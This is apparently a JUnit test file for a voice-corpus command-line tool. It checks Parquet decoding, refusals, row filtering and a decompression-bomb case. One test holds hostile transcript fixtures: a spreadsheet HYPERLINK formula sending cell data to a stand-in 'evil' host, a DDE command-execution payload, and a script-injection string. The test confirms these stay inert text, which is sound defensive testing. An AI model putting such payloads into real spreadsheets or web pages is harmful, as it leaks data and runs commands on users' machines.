package org.voicepersona.cli.corpus;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.function.IntFunction;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.voicepersona.output.epoch.PublishedOutput;
import org.voicepersona.output.record.RecordField;
import org.voicepersona.output.record.VoiceRecord;
import org.voicepersona.testing.Program;
import org.voicepersona.testing.SharedData;
import org.voicepersona.testing.Tree;

/** Corpora of strangers that were once read wrongly, from their files to the published records. */
class StrangeCorporaTest {

  private static final String SHARD = "data/train-00000-of-00001.parquet";

  /** What is to be published of the Parquet files that can be read, as {@link #told} writes it. */
  private static final Map<String, List<String>> DESCRIBED =
      Map.ofEntries(
          Map.entry("brotli.parquet", spoken("train", 0, "6.528|[]")),
          Map.entry("dec38.parquet", spoken("train", 0, "6.528|[]")),
          Map.entry("dec9.parquet", spoken("train", 0, "6.528|[]")),
          Map.entry(
              "duckdb",
              List.of(
                  "train 0: s1|espeak_063.wav|||||[]",
                  "train 1: s2|flite_003.wav|||||[]",
                  "train 2: s3|flite_033.wav|||||[]")),
          Map.entry(
              "j_classlabel.parquet",
              List.of(
                  "train 0: S0||England English|twenties|male||[]",
                  "train 1: S1||Scottish English|twenties|female||[]",
                  "train 2: S2||United States English|twenties|male||[]")),
          Map.entry("j_dec_int32.parquet", rows(3, row -> "|||||6.528|[]")),
          Map.entry(
              "j_uint64_speaker.parquet",
              rows(3, row -> "1844674407370955161%d||||||[]".formatted(5 - row))),
          Map.entry(
              "labels.parquet",
              rows(13, row -> "||%s|twenties|male|6.5|[]".formatted(row == 2 ? "Other" : ""))),
          Map.entry(
              "locale",
              joined(
                  List.of(
                      spoken("train", 0, "6528.0|[contradicts-duration]"),
                      spoken("train", 3, "6.528|[]")))),
          Map.entry(
              "split",
              joined(
                  List.of(
                      spoken("test", 0, "6.528|[]"),
                      spoken("train", 0, "6.528|[]"),
                      spoken("validation", 0, "6.528|[]")))),
          Map.entry("timestamp.parquet", spoken("train", 0, "|[]")),
          Map.entry(
              "uuid3.parquet",
              rows(
                  3,
                  row -> "0190a7b2-1111-7000-8000-00000000008%d||||male||[]".formatted(row + 1))));

  /** Why the others cannot be read. */
  private static final Map<String, String> REFUSED =
      Map.of(
          "audio_list.parquet", "unsupported-type: column 'audio' is a list",
          "encrypted.parquet", "encrypted: the footer is encrypted: decrypt the file first",
          "lists.parquet", "unsupported-type: column 'transcript' is a list");

  @TempDir private Path folder;

  @Test
  void everyParquetFileIsReadAsItsTypesSayOrRefusedWithTheReason() throws Exception {
    try (Stream<Path> cases = Files.list(SharedData.path("cases/parquet"))) {
      for (Path input : cases.sorted().toList()) {
        String name = input.getFileName().toString();
        Path output = folder.resolve(name);
        Program.Result result =
            Files.isDirectory(input)
                ? process(input, output, "--split=all")
                : process(input, output);
        if (REFUSED.containsKey(name)) {
          assertThat(result.exitCode()).as(name).isEqualTo(1);
          assertThat(result.err())
              .as(name)
              .startsWith("Nothing was described: 1 shard cannot be read\n")
              .contains(REFUSED.get(name));
          assertThat(told(output)).as(name).isEmpty();
        } else {
          assertThat(result.exitCode()).as(name + result.err()).isZero();
          assertThat(result.out()).as(name).contains(" 0 failed").doesNotContain("shards could");
          assertThat(told(output)).as(name).isEqualTo(DESCRIBED.get(name));
        }
      }
    }
  }

  @Test
  void theNamesOfClassesChooseRows() throws Exception {
    Path output = folder.resolve("out");
    Program.Result result =
        process(
            SharedData.path("cases/parquet/j_classlabel.parquet"),
            output,
            "--filter=gender=female");

    assertThat(result.exitCode()).as(result.err()).isZero();
    assertThat(told(output)).containsExactly("train 1: S1||Scottish English|twenties|female||[]");
  }

  @Test
  void aDictionaryThatUnfoldsToGigabytesHoldsNobodyUp() throws Exception {
    Path corpus = Files.createDirectories(folder.resolve("corpus/data"));
    Files.copy(
        SharedData.path("cases/output/dict/train-00000-of-00001.parquet"),
        corpus.resolve("train-00000-of-00002.parquet"));
    Files.copy(
        SharedData.path("cases/output/named1").resolve(SHARD),
        corpus.resolve("train-00001-of-00002.parquet"));
    Path output = folder.resolve("out");

    Program.Result result = process(folder.resolve("corpus"), output, "--start=197");

    assertThat(result.exitCode()).as(result.err()).isZero();
    assertThat(told(output))
        .hasSize(9)
        .contains("train 199: S199|hello 199|US|twenties|male|3.0|[contradicts-duration]")
        .contains("train 205: S15|text of 1|US|twenties|male|2.0|[no-speech]");
  }

  @Test
  void aCorpusIsNoPlaceForAResult() throws Exception {
    Path corpus =
        Tree.copy(SharedData.path("cases/output/output-is-input"), folder.resolve("corpus"));
    var before = Tree.of(folder);

    Program.Result result = process(corpus, corpus);

    assertThat(result.exitCode()).as(result.out()).isEqualTo(2);
    assertThat(Tree.of(folder)).isEqualTo(before);
  }

  @Test
  void textsThatMeanSomethingElsewhereAreOnlyTexts() throws Exception {
    Path output = folder.resolve("out");

    Program.Result result = process(SharedData.path("cases/output/evil"), output);

    assertThat(result.exitCode()).as(result.err()).isZero();
    try (Stream<VoiceRecord> voices = PublishedOutput.at(output).descriptions()) {
      assertThat(voices.map(voice -> voice.text(RecordField.TRANSCRIPT)))
          .hasSize(16)
          .contains(
              "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
              "+cmd|' /C calc'!A0",
              "</script><script>alert(1)</script>",
              "a\nb\r\nc",
              "\u202eabc");
    }
  }

  private static Program.Result process(Path input, Path output, String... options) {
    return Program.run(
        Stream.concat(
                Stream.of(
                    "process", "--input=" + input, "--output=" + output, "--describer=acoustic"),
                Stream.of(options))
            .toArray(String[]::new));
  }

  /** Returns what the corpus says of each described row, and the flags. */
  private static List<String> told(Path output) throws IOException {
    try (Stream<VoiceRecord> voices = PublishedOutput.at(output).descriptions()) {
      return voices
          .map(
              voice ->
                  "%s %d: %s|%s|%s|%s|%s|%s|%s"
                      .formatted(
                          voice.text(RecordField.SPLIT),
                          voice.integer(RecordField.INDEX),
                          voice.text(RecordField.SPEAKER_ID),
                          voice.text(RecordField.TRANSCRIPT),
                          voice.text(RecordField.ACCENT),
                          voice.text(RecordField.AGE),
                          voice.text(RecordField.GENDER),
                          number(voice.number(RecordField.DURATION)),
                          voice.list(RecordField.FLAGS)))
          .toList();
    }
  }

  private static String number(double value) {
    return Double.isNaN(value) ? "" : Double.toString(value);
  }

  private static List<String> rows(int count, IntFunction<String> row) {
    return IntStream.range(0, count)
        .mapToObj(i -> "train %d: %s".formatted(i, row.apply(i)))
        .toList();
  }

  /** Returns the three rows that most of the files hold. */
  private static List<String> spoken(String split, int first, String rest) {
    return IntStream.range(0, 3)
        .mapToObj(
            i ->
                "%s %d: S00%d|line number %3$d is spoken here|United States English|twenties|%s|%s"
                    .formatted(split, first + i, i, i == 1 ? "female" : "male", rest))
        .toList();
  }

  private static List<String> joined(List<List<String>> parts) {
    return parts.stream().flatMap(List::stream).toList();
  }
}
